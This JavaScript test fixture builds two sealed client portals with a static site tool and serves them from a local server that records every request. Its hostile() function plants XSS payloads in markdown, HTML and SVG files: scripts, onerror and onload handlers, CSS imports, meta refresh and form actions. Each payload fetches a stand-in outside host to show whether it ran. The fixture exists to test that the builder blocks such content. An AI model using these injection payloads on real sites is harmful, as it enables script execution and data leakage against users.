// Two sealed portals as the program builds them, one of them with hostile content, on a host that
// writes down all that it is asked and can alter what it serves: below one address, and each on a
// host name of its own.

import { execFile } from 'node:child_process';
import { cp, mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, extname, join, resolve } from 'node:path';
import { promisify } from 'node:util';

const run = promisify(execFile);
const REPOSITORY = resolve(import.meta.dirname, '../../..');
const KEYFOLIO = process.env['KEYFOLIO'] ?? join(REPOSITORY, 'target/debug/keyfolio');

const TYPES = /** @type {Record<string, string>} */ ({
  '.css': 'text/css',
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript',
  '.json': 'application/json',
  '.png': 'image/png',
  '.svg': 'image/svg+xml',
});

/**
 * @typedef {{ line: string, host: string, all: string }} Asked - a request: its first line, the host
 *   that it names, and all of its head and body
 * @typedef {(bytes: Buffer) => Buffer} Alter
 */

/**
 * A host that gives each request to `answer`.
 *
 * @param {(path: string, host: string) => Promise<{ type: string, body: Buffer } | undefined>} answer
 */
async function listen(answer) {
  /** @type {Asked[]} */
  let asked = [];
  const server = createServer((request, response) => {
    /** @type {Buffer[]} */
    const body = [];
    request.on('data', (data) => body.push(data));
    request.on('end', async () => {
      const line = `${request.method} ${request.url}`;
      const host = request.headers.host ?? '';
      const all = [line, ...request.rawHeaders, Buffer.concat(body).toString()].join('\n');
      asked.push({ line, host, all });
      const path = decodeURIComponent(new URL(request.url ?? '/', 'http://localhost').pathname);
      const found = await answer(path.slice(1), host.replace(/:\d+$/, '')).catch(() => undefined);
      response.setHeader('cache-control', 'no-store');
      response.setHeader('content-type', found?.type ?? 'text/plain');
      response.writeHead(found ? 200 : 404).end(found?.body ?? 'not found');
    });
  });
  await new Promise((done) => server.listen(0, '127.0.0.1', () => done(undefined)));
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return {
    port,
    /** What was asked since the last call. */
    asked: () => asked.splice(0),
    close: () =>
      new Promise((done) => {
        server.close(() => done(undefined));
        server.closeAllConnections();
      }),
  };
}

/** A page on another host, which says what it learns of where its reader comes from. */
const OUTSIDE = '<!doctype html><title>Outside</title><h1>Outside</h1><p id="from"></p>';

/**
 * What a person with access to the content, or with a bad copy-and-paste, might put in and still get a
 * portal: links and embeds that lead to scripts or to other hosts are errors, and none is built.
 *
 * @param {string} outside - address of a host to which all that runs reports
 */
const hostile = (outside) => ({
  'updates/2026-11-03-hostile.md': `# Hostile

<script>window.pwned = 'script'; fetch('${outside}ran-script')</script>
<img src="drawing.svg" alt="" onerror="window.pwned = 'image'; fetch('${outside}ran-image')">
<svg onload="window.pwned = 'svg'"><script>window.pwned = 'svg script'</script></svg>
<iframe srcdoc="<script>parent.pwned = 'frame'</script>"></iframe>
<object data="${outside}object"></object>
<style>@import '${outside}style'; h1 { background: url(${outside}css); color: rgb(1, 2, 3) !important }</style>
<p id="styled" style="background: url(${outside}inline); color: rgb(1, 2, 3)">Styled</p>
<link rel="stylesheet" href="${outside}linked">
<meta http-equiv="refresh" content="0; url=${outside}refresh">
<base href="${outside}">
<form action="${outside}form"><button>Send</button></form>

[page](attached.html) [drawing](drawing.svg) ![drawing](drawing.svg)
`,
  'updates/attached.html': `<!doctype html><title>Attached</title><script>
try { opener.pwned = 'attached' } catch {} try { parent.pwned = 'attached' } catch {}
fetch('${outside}ran-attached')</script>`,
  'updates/drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="fetch('${outside}ran-svg')">
<script>try { parent.pwned = 'drawing' } catch {} fetch('${outside}ran-drawing')</script>
<image href="${outside}svg-image" width="9" height="9"/><rect width="40" height="40"/></svg>`,
  'documents/documents.yaml': `- file: attached.html\n- file: drawing.svg\n`,
  'documents/attached.html': `<script>fetch('${outside}ran-document')</script>`,
  'documents/drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${outside}ran-document')</script></svg>`,
});

/**
 * @typedef {object} Portal
 * @property {string} client
 * @property {string} locator
 * @property {string} secret
 */

export async function openVault() {
  const temporary = await mkdtemp(join(tmpdir(), 'keyfolio-vault-'));
  const workspace = join(temporary, 'agency');
  const out = join(workspace, 'dist');
  const outside = await listen(async () => ({ type: TYPES['.html'] ?? '', body: Buffer.from(OUTSIDE) }));
  const elsewhere = `http://localhost:${outside.port}/`;

  /** @type {Map<RegExp, Alter>} */
  const altered = new Map();
  let alterations = 0;
  const host = await listen(async (path, name) => {
    const [label = '', ...rest] = name.split('.');
    const file = rest.length > 0 && label.length === 32 ? join(label, path) : path;
    /** @type {Buffer} */
    let body = await readFile(join(out, file));
    for (const [which, alter] of altered)
      if (which.test(file)) {
        body = alter(body);
        alterations += 1;
      }
    return { type: TYPES[extname(file)] ?? 'application/octet-stream', body };
  });

  await put(join(workspace, 'keyfolio.yaml'), 'name: North Yard\naccess: { mode: link }\n');
  for (const client of ['acme', 'bolt']) {
    const folder = join(workspace, 'content', client);
    await put(join(folder, 'client.yaml'), `name: ${client === 'acme' ? 'Acme' : 'Bolt'}\nlanguage: en\n`);
    await put(
      join(folder, 'updates/2026-11-01-hello.md'),
      `# Hello\n\nWe begin. [Look outside](${elsewhere}page) or [send a mail](mailto:a@b.example).\n`,
    );
  }
  for (const [path, text] of Object.entries(hostile(elsewhere)))
    await put(join(workspace, 'content/acme', path), text);
  await run(KEYFOLIO, ['build', '--quiet'], { cwd: workspace });
  const { stdout } = await run(KEYFOLIO, ['links', '--format', 'json'], { cwd: workspace });
  const portals = stdout
    .trim()
    .split('\n')
    .map((line) => {
      const { client, locator, fragment } = JSON.parse(line);
      return /** @type {Portal} */ ({ client, locator, secret: fragment });
    });
  const [acme, bolt] = portals;
  if (!acme || !bolt) throw new Error(stdout);

  return {
    acme,
    bolt,
    /** Where content can have its readers sent, and all that it was asked. */
    outside: { url: elsewhere, asked: outside.asked },
    /** All that the portals' host was asked. */
    asked: host.asked,
    /** @param {Portal} portal */
    below: ({ locator }) => `http://localhost:${host.port}/${locator}/index.html`,
    /** @param {Portal} portal */
    apart: ({ locator }) => `http://${locator}.localhost:${host.port}/index.html`,
    /** @param {Portal} portal */
    folder: ({ locator }) => join(out, locator),
    /** @param {Portal} portal */
    files: ({ locator }) => readdir(join(out, locator), { recursive: true }),
    /**
     * What is served where the path matches, from now on; as it is, without `alter`.
     *
     * @param {RegExp} which
     * @param {Alter} alter
     */
    alter: (which, alter) => altered.set(which, alter),
    /** Serves all as it is again, and says how often something was altered. */
    restore: () => {
      altered.clear();
      const before = alterations;
      alterations = 0;
      return before;
    },
    /**
     * One more update in a portal: its number goes up. What the host had before can be had back.
     *
     * @param {Portal} portal
     */
    publish: async ({ client, locator }) => {
      const before = join(temporary, `before-${client}`);
      await cp(join(out, locator), before, { recursive: true });
      await put(
        join(workspace, 'content', client, 'updates/2026-11-04-more.md'),
        '# More\n\nAnd on.\n',
      );
      await run(KEYFOLIO, ['build', '--quiet'], { cwd: workspace });
      return async () => {
        await cp(before, join(out, locator), { recursive: true, force: true });
      };
    },
    close: async () => {
      await host.close();
      await outside.close();
      await rm(temporary, { recursive: true, force: true });
    },
  };
}

/**
 * @param {string} file
 * @param {string} text
 */
async function put(file, text) {
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, text);
}
